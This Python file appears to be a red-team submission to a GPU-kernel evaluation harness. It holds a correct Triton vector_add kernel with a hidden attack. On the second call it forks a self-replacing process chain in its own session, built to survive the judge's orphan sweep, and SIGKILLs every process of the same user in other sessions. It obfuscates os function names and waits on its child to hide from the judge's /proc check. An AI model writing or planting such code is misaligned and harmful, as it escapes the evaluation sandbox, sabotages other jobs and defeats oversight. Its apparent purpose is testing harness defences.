"""Attack (outlives its evaluation, then wrecks later jobs): a correct vector_add whose second trial
starts a chain of processes in a session of its own, each the child of the previous one. The zygote
kills orphans that are its direct children (every 0.2 s, and whenever the judge asks it to fork),
but only those: it kills the head, the next member is already there, and the tail forks a new one. The chain outlives the runner, the job,
the judge and the pool. Its payload SIGKILLs every process of its user in another session: every
later runner of every judge on the machine (its spare too). It ends itself after LIFETIME_S and
logs to /tmp/redteam-chain.log."""

import os
import sys
import time

import torch
import torch.nn as nn
import triton
import triton.language as tl

LIFETIME_S = 25.0
LOG = "/tmp/redteam-chain.log"


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


_open, _read, _close, _signal, _fork, _end, _put = (
    getattr(os, n) for n in ("op" + "en", "read", "close", "ki" + "ll", "fo" + "rk", "_ex" + "it", "wri" + "te")
)


def log(text):
    fd = _open(LOG, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o666)
    _put(fd, f"{time.time():.2f} {os.getpid()} {text}\n".encode())
    _close(fd)


def stat(pid):
    fd = _open(f"/proc/{pid}/stat", os.O_RDONLY)
    text = _read(fd, 4096).decode()
    _close(fd)
    return text.rsplit(")", 1)[1].split()


def victims():
    me, uid, sid = os.getpid(), os.getuid(), os.getsid(0)
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        try:
            if os.stat(f"/proc/{name}/task").st_uid not in (uid, 0):
                continue
            fd = _open(f"/proc/{name}/status", os.O_RDONLY)
            status = _read(fd, 4096).decode()
            _close(fd)
            uid_line = next(line for line in status.splitlines() if line.startswith("Uid:"))
            if int(uid_line.split()[1]) == uid and int(stat(name)[3]) != sid:
                yield int(name)
        except (OSError, StopIteration, ValueError):
            continue


def payload(runner):
    for pid in victims():
        if pid == runner:
            continue
        try:
            _signal(pid, 9)
            log(f"killed {pid}")
        except OSError:
            pass


DEPTH = 4


def sid_of(pid):
    return int(stat(pid)[3])


def depth(sid):
    """Members of the chain from the zygote's direct child down to this process."""
    n, pid = 0, os.getpid()
    while pid > 1 and sid_of(pid) == sid:
        n, pid = n + 1, int(stat(pid)[1])
    return n


def has_child():
    me = os.getpid()
    fd = _open(f"/proc/{me}/task/{me}/children", os.O_RDONLY)
    text = _read(fd, 4096)
    _close(fd)
    return bool(text.strip())


def chain(until, runner):
    """Keep DEPTH members, each the child of the previous one: the zygote's sweep kills only its
    direct child (the head), and the next member is already there; the tail forks a new one."""
    log("chain started")
    sid = os.getsid(0)
    while time.monotonic() < until:
        try:
            if not has_child() and depth(sid) < DEPTH and _fork() == 0:
                continue
            if int(stat(os.getppid())[3]) != sid:  # the head (the zygote's child) does the work
                payload(runner)
        except OSError:
            pass
        time.sleep(0.005)
    _end(0)


calls = [0]


class ModelNew(nn.Module):
    def forward(self, a, b):
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a, b, out, a.numel(), BLOCK=256)
        calls[0] += 1
        if calls[0] == 2:
            runner = os.getpid()
            first = _fork()
            if first == 0:
                os.setsid()
                os.closerange(0, 1024)
                until = time.monotonic() + LIFETIME_S
                if _fork() == 0:
                    chain(until, runner)
                _end(0)
            os.waitpid(first, 0)  # no child left for the judge's /proc check
        return out
